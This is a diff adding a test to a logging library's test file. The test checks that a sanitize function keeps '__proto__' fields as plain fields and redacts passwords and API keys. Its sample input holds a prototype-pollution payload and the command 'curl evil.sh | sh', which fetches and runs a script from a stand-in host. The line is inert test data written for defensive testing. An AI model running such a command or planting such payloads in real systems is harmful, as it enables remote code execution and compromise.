@@ -69,6 +69,16 @@ describe.each(PINOS)('pino sink on %s', (_major, pino) => {
   });
 });
 
+describe('sanitize and hostile field names', () => {
+  it('keeps fields named __proto__ in the output as fields, so a client cannot hide data from the log', () => {
+    const body = JSON.parse('{"__proto__":{"cmd":"curl evil.sh | sh","password":"hunter2"},"page":1}') as unknown;
+    const headers = JSON.parse('{"__proto__":["a","b"],"x-api-key":"kw_live_secret"}') as unknown;
+    const out = sanitize({ body, headers }) as Record<string, Record<string, unknown>>;
+    expect(JSON.stringify(out)).toBe('{"body":{"__proto__":{"cmd":"curl evil.sh | sh","password":"[REDACTED]"},"page":1},"headers":{"__proto__":["a","b"],"x-api-key":"[REDACTED]"}}');
+    expect(Object.getPrototypeOf(out.body)).toBe(Object.prototype);
+  });
+});
+
 describe('JSON-lines sink', () => {
   it('writes one sanitised JSON object per line to a stream', () => {
     const out = capture();
